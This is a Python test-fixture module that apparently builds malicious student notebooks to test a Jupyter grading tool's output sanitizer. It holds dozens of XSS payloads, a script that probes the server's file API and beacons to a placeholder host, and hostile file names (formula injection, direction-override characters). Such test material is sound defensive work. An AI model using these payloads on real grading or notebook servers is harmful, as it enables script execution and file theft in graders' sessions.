"""Attacks on the one who opens a student's work: what a text, a notebook or a name may carry.

{js} stands for a script that reports itself and asks the Jupyter server for its files, {to} for an
address that should never be asked for, {name} for the payload's own name.
"""

import base64
import json

import submissions
from coursework.grader import clean

PAGES = 16                          # that the texts are spread over
ANSWERS = ("4-6", "4-7")            # the cells of the assignment that are answered in words
SCRIPT = ("document.createElement('img').src='{to}/ran/{name}';fetch('/api/contents?from={name}')"
          ".then(function(a){document.createElement('img').src='{to}/status/{name}/'+a.status})")

SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js}\"><script>{js}</script></svg>"

# A text in Markdown. It stands between two sentences, which must be seen, as must what is typed.
TEXTS = {
    "img-onerror": '<img src=x onerror="{js}">',
    "img-onerror-in-text": 'The gate <img src=x onerror="{js}"> closes.',
    "script": "<script>{js}</script>",
    "script-in-text": "The gate <script>{js}</script> closes.",
    "svg-onload": '<svg onload="{js}"></svg>',
    "svg-script": "<svg><script>{js}</script></svg>",
    "svg-animate": '<svg><a><animate attributeName=href values="javascript:{js}"/>'
                   "<text x=20 y=20>click</text></a></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml;base64,{svg64}#x"></use></svg>',
    "details-ontoggle": '<details open ontoggle="{js}">more</details>',
    "input-autofocus": '<input autofocus onfocus="{js}">',
    "unknown-tag-focus": '<gate tabindex=1 autofocus onfocus="{js}">h</gate>',
    "mouse": '<p onmouseover="{js}">Move here.</p>',
    "video-error": '<video><source src=x onerror="{js}"></video><audio src=x onerror="{js}">',
    "body-onload": '<body onload="{js}"><html onmouseover="{js}">',
    "iframe-srcdoc": '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:{js}"></iframe>',
    "iframe-server": '<iframe src="/api/contents?from={name}"></iframe>',
    "iframe-data": '<iframe src="data:text/html;base64,{html64}"></iframe>',
    "object-embed": '<object data="{to}/{name}"></object><embed src="{to}/{name}">'
                    '<object data="data:text/html;base64,{html64}"></object>',
    "shadow-root": '<div><template shadowrootmode="open"><script>{js}</script></template></div>',
    "a-javascript": '<a href="javascript:{js}">click</a>',
    "link-javascript": "[click](<javascript:{js}>)",
    "link-reference": "[click][here]\n\n[here]: <javascript:{js}> 'title'",
    "link-auto": "<javascript:{js}>",
    "link-entity": "[click](<&#106;avascript:{js}>) and [click](<JaVaScRiPt&colon;{js}>)",
    "link-data": "[click](data:text/html;base64,{html64})",
    "link-title": "[click]({to}/{name} '\"><img src=x onerror=\"{js}\">')",
    "link-server": "[click](/api/contents?from={name}) or /api/contents?from={name}",
    "picture-outside": "![a plot]({to}/{name})",
    "picture-server": "![a plot](/api/contents?from={name})",
    "picture-svg": "![a plot](data:image/svg+xml;base64,{svg64})",
    "picture-alt": '![" onerror="{js}]({to}/{name})',
    "style-import": "<style>@import url({to}/{name});</style>",
    "style-hides": "<style>.score{display:none}body{background:url({to}/{name})}</style>",
    "style-attribute": '<div style="position:fixed;top:0;left:0;width:999px;height:999px;'
                       'background:url({to}/{name})">over all</div>',
    "stylesheet": '<link rel=stylesheet href="{to}/{name}">',
    "prefetch": '<link rel=prefetch href="{to}/{name}"><link rel=preload as=image href="{to}/a">',
    "base": '<base href="{to}/"><img src=picture.png>',
    "meta-refresh": '<meta http-equiv=refresh content="0;url={to}/{name}">',
    "form": '<form action="{to}/{name}"><button>Full points</button></form>'
            '<button formaction="javascript:{js}">x</button>',
    "mathml": '<math><maction actiontype=statusline xlink:href="javascript:{js}" '
              'href="javascript:{js}">click</maction></math>',
    "mathjax-href": r"$\href{javascript:{js}}{click}$ and $$\href{javascript:{js}}{x}$$",
    "mathjax-hidden": r"$\def\gate{\href{javascript:{js}}{y}}\gate$ \(\gate\) \[\gate\]",
    "mathjax-html": r"$\require{html}\style{background:url({to}/{name})}{x}\class{score}{y}"
                    r"\cssId{toc}{z}$ $\unicode[x;background:url({to}/{name})]{97}$",
    "mathjax-environment": "\\begin{equation}<img src=x onerror=\"{js}\">\\href{javascript:{js}}"
                           "{x}\\end{equation}",
    "mathjax-config": '<script type="text/x-mathjax-config">{js}</script>'
                      '<script type="math/tex">\\href{javascript:{js}}{x}</script>',
    "html-in-formula": '$<img src=x onerror="{js}">$\n\n$$\n<script>{js}</script>\n$$',
    "fence-info": '```"><img src=x onerror="{js}">\nh = 0\n```\n\n```mermaid\n<img src=x '
                  'onerror="{js}">\nclick a href "javascript:{js}"\n```\n\n```html\n<b>\n```',
    "fence-breaks-out": "```\n</code></pre><script>{js}</script>\n```",
    "heading-table": '# <img src=x onerror="{js}">\n\n| a <img src=x onerror="{js}"> | b |\n|---|'
                     '---|\n| <script>{js}</script> | 2 |\n',
    "footnote": '[^1]\n\n[^1]: <img src=x onerror="{js}">\n\nTerm\n: <img src=x onerror="{js}">',
    "template": "{{ resources }} {{ 7 * 7 }} {% include 'base.tpl' %} {# gone? #}",
    "formgrader-attributes": '<a data-link="../../{name}" class="score" id="4-7">open</a>'
                             '<form id="resources"><input name="submission_id"></form>',
    "entities": "&lt;img src=x onerror=\"{js}\"&gt; &amp;lt;script&amp;gt;",
    "backslashes": '\\<img src=x onerror="{js}"\\> \\`<img src=x onerror="{js}">`',
    "control": "abc\u202edef\u2066x\u200b\x00\x07\x1b[31mred\x1b[0m\ud800\u2028\ufeffend",
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "math-mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img "
                     "src=1 onerror={js}&gt;\">",
    "breaks-out": "</div></div></div></div></pre></code>--></textarea></title><script>{js}"
                  "</script>",
    "comment-open": "<!-- and nothing ends it",
    "plaintext": "<plaintext>",
    "textarea-open": "<textarea><title><xmp><noembed>",
}

# What is read of a text in which Markdown takes some signs for its own; of all others, the whole.
SEEN = {
    "svg-use": ['<svg><use href="data:image/svg+xml;base64,...#x"></use></svg>'],
    "iframe-data": ['<iframe src="data:text/html;base64,..."></iframe>'],
    "object-embed": ['<object data="{to}/{name}"></object><embed src="{to}/{name}"><object '
                     'data="data:text/html;base64,..."></object>'],
    "link-data": ["[click](data:text/html;base64,...)"],
    "picture-svg": ["![a plot](data:image/svg+xml;base64,...)", clean.LEFT_OUT],
    "mathjax-hidden": [r"$\def\gate{\href{javascript:{js}}{y}}\gate$ (\gate) [\gate]"],
    "fence-info": ["h = 0", '<img src=x onerror="{js}">\nclick a href "javascript:{js}"', "<b>"],
    "fence-breaks-out": ["</code></pre><script>{js}</script>"],
    "heading-table": ['<img src=x onerror="{js}">', 'a <img src=x onerror="{js}">',
                      "<script>{js}</script>"],
    "footnote": ['[^1]', '[^1]: <img src=x onerror="{js}">', 'Term', '<img src=x onerror="{js}">'],
    "backslashes": ['<img src=x onerror="{js}"> `<img src=x onerror="{js}">`'],
    "control": ["abc⟨U+202E⟩def⟨U+2066⟩x⟨U+200B⟩⟨U+0000⟩⟨U+0007⟩⟨U+001B⟩[31mred⟨U+001B⟩[0m"
                "⟨U+D800⟩⟨U+2028⟩⟨U+FEFF⟩end"],
}


def answer(notebook, name):
    """Return a cell for an answer in words."""
    return next(cell for cell in notebook.cells
                if cell.metadata.get("nbgrader", {}).get("grade_id") == name)


def output(**data):
    """Return an edit that adds outputs to every code cell."""
    def edit(notebook, filled):
        for cell in notebook.cells:
            if cell.cell_type == "code":
                known = {"metadata": {name: {"isolated": True} for name in data},
                         "data": json.loads(filled(json.dumps(data)))}
                cell["outputs"] += [{"output_type": "display_data", **known},
                                    {"output_type": "execute_result", "execution_count": 1,
                                     **known}]
    return edit


def printed(notebook, filled):
    """Print HTML and colours, and fail with a traceback of the same."""
    text = filled('<img src=x onerror="{js}">\x1b[31m</pre><script>{js}</script>')
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell["outputs"] += [{"output_type": "stream", "name": "stdout", "text": text},
                                {"output_type": "error", "ename": text, "evalue": text,
                                 "traceback": [text]}]


def code(exercise, source):
    """Return an edit that replaces a function."""
    def edit(notebook, filled):
        submissions.answer_cells(notebook)[exercise]["source"] = filled(source)
    return edit


def attachments(notebook, filled):
    """Attach pictures with scripts to the answer, under names that are scripts themselves."""
    bad = filled('"><img src=x onerror="{js}">')
    cell = answer(notebook, "4-6")
    cell["source"] = f"Before.\n\n![plot](attachment:a.svg) ![b](attachment:{bad})\n\nAfter."
    cell["attachments"] = {"a.svg": {"image/svg+xml": filled("{svg64}")},
                           bad: {bad: bad}, "c.html": {"text/html": filled("{html64}")}}


def notebook_metadata(notebook, filled):
    """Put a script wherever a notebook names itself, its kernel or its language."""
    bad = filled('</script></style></title>"><img src=x onerror="{js}"><script>{js}</script>')
    notebook["metadata"] = {
        "title": bad, "authors": [{"name": bad}],
        "kernelspec": {"name": bad, "display_name": bad, "language": bad},
        "language_info": {"name": bad, "pygments_lexer": bad, "codemirror_mode": bad,
                          "file_extension": bad, "mimetype": bad, "version": bad}}


def widget_state(notebook, filled):
    """Store a widget's state that ends the script it is put into."""
    state = {"a": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                   "model_module_version": "2.0.0",
                   "state": {"value": filled("</script><script>{js}</script>")}}}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": state}}


def cell_metadata(notebook, filled):
    """Put a script into tags, ids and whatever else a cell says about itself."""
    bad = filled('"><img src=x onerror="{js}">')
    for number, cell in enumerate(notebook.cells):
        cell["id"] = f"{bad}{number}"
        cell["metadata"] = {"tags": [bad], "name": bad, "title": bad, "alt": bad,
                            "nbgrader": {**cell["metadata"].get("nbgrader", {}), "comment": bad,
                                         "points": bad, "checksum": bad},
                            "magics_language": bad, "slideshow": {"slide_type": bad}}


def grade_ids(notebook, filled):
    """Give every cell a script for its name in the gradebook."""
    for cell in notebook.cells:
        cell["metadata"] = {"nbgrader": {"grade_id": filled('"><img src=x onerror="{js}">'),
                                         "grade": True, "solution": True, "points": 1}}


def raw_cells(notebook, filled):
    """Make the answers raw cells that are meant for HTML."""
    for cell in notebook.cells:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            for field in ("outputs", "execution_count"):
                cell.pop(field, None)
            cell["cell_type"] = "raw"
            cell["metadata"] |= {"raw_mimetype": "text/html", "format": "text/html"}
            cell["source"] = filled('<img src=x onerror="{js}"><script>{js}</script>')


def other_cells(notebook, filled):
    """Add cells of every kind between those of the assignment."""
    bad = filled('<img src=x onerror="{js}"><script>{js}</script>')
    for kind in ("markdown", "code", "raw", "<img src=x>"):
        extra = {"outputs": [], "execution_count": None} if kind == "code" else {}
        for place in (3, len(notebook["cells"])):
            notebook["cells"].insert(place, submissions.nbformat.from_dict(
                {"cell_type": kind, "metadata": {}, "source": bad, **extra}))


# What a whole notebook may carry: {name: function of a notebook and of what fills a text}.
NOTEBOOKS = {
    "output-html": output(**{"text/html": '<img src=x onerror="{js}"><script>{js}</script>'}),
    "output-svg": output(**{"image/svg+xml": SVG}),
    "output-javascript": output(**{"application/javascript": "{js}"}),
    "output-latex": output(**{"text/latex": r"$\href{javascript:{js}}{x}$<script>{js}</script>"}),
    "output-markdown": output(**{"text/markdown": '<img src=x onerror="{js}">'}),
    "output-widget": output(**{"application/vnd.jupyter.widget-view+json": {
        "model_id": "</script><script>{js}</script>"}}),
    "output-unknown": output(**{"application/vnd.x+json": "<script>{js}</script>",
                                "text/vnd.mermaid": '<img src=x onerror="{js}">'}),
    "output-no-png": output(**{"image/png": '" onerror="{js}', "image/jpeg": "{html64}"}),
    "output-printed": printed,
    "code-html": code("4-1", '%%html\n<img src=x onerror="{js}"></pre>'
                             '<script>{js}</script>'),
    "code-direction": code("4-2", "access = 'user\u202e \u2066# only users\u2069 \u2066'\n"
                                  "\x00\ud800"),
    "attachments": attachments,
    "notebook-metadata": notebook_metadata,
    "widget-state": widget_state,
    "cell-metadata": cell_metadata,
    "grade-ids": grade_ids,
    "raw-cells": raw_cells,
    "other-cells": other_cells,
}

# What a file may be called: it has no slash and at most 255 bytes, so these scripts are short.
NAMES = {
    "name-tag": "<img src=x onerror=ran('name-tag')>",
    "name-attribute": '"><img src=x onerror=ran("name-attribute")>',
    "name-string": '";ran("name-string");"',
    "name-single": "';ran('name-single');'",
    "name-mouse": '" onmouseover="ran(1)" x="',
    "name-template": "{{ 7 * 7 }}{% raw %}",
    "name-formula": "=HYPERLINK(1;2)",
    "name-formula-2": "@SUM(1+1)",
    "name-formula-3": "-2+3",
    "name-formula-4": "+1",
    "name-separator": "anna;=1+1",
    "name-direction": "anna\u202egnp.exe",
    "name-control": "ann\x1b[2J\n\ta",
    "name-half": "ann\udcff",
    "name-address": "a?b=c#d%2e%2e%2f&e",
    "name-pattern": "[!a]*?",
    "name-dots": "a...",
    "name-long": "ä" * 120,
}


def filler(name, to):
    """Return a function that fills the places in a payload."""
    script = SCRIPT.replace("{to}", to).replace("{name}", name)
    html = base64.b64encode(f"<script>{script}</script>".encode()).decode()
    svg = base64.b64encode(SVG.replace("{js}", script).encode()).decode()

    def filled(text):
        in_json = text.startswith('{"')
        for place, value in (("{js}", script), ("{to}", to), ("{name}", name),
                             ("{html64}", html), ("{svg64}", svg)):
            text = text.replace(place, json.dumps(value)[1:-1] if in_json else value)
        return text
    return filled


def text(name, to):
    """Return the text of a payload between two sentences."""
    return f"Before {name}.\n\n{filler(name, to)(TEXTS[name])}\n\nAfter {name}."


def seen(name, to):
    """Return the texts that must be read where a payload is shown."""
    typed = SEEN.get(name, [TEXTS[name]])
    return [f"Before {name}.", *map(filler(name, to), typed), f"After {name}."]


def groups():
    """Return {file name without its end: payloads}: a class in which every student attacks.

    Several payloads share a notebook, so that there are fewer pages to open. Those that would hide
    what follows stand last in `TEXTS`, and so in their notebook.
    """
    texts, outputs = list(TEXTS), [name for name in NOTEBOOKS if name.startswith("output-")]
    together = [outputs, ["notebook-metadata", "widget-state", "cell-metadata"],
                ["code-html", "code-direction"]]
    alone = [[name] for name in NOTEBOOKS if not any(name in group for group in together)]
    found = [texts[n::PAGES] for n in range(PAGES)] + together + alone
    called = [*NAMES.values(), *(f"student-{n}" for n in range(len(NAMES), len(found)))]
    return dict(zip(called, found, strict=True))


def notebook(names, to):
    """Return a solved assignment that carries payloads, as a student would hand it in."""
    made, texts = submissions.solved(), [name for name in names if name in TEXTS]
    for place, some in zip(ANSWERS, (texts[::2], texts[1::2]), strict=True):
        if some:
            answer(made, place)["source"] = "\n\n".join(text(name, to) for name in some)
    for name in names:
        if name in NOTEBOOKS:
            NOTEBOOKS[name](made, filler(name, to))
    return made
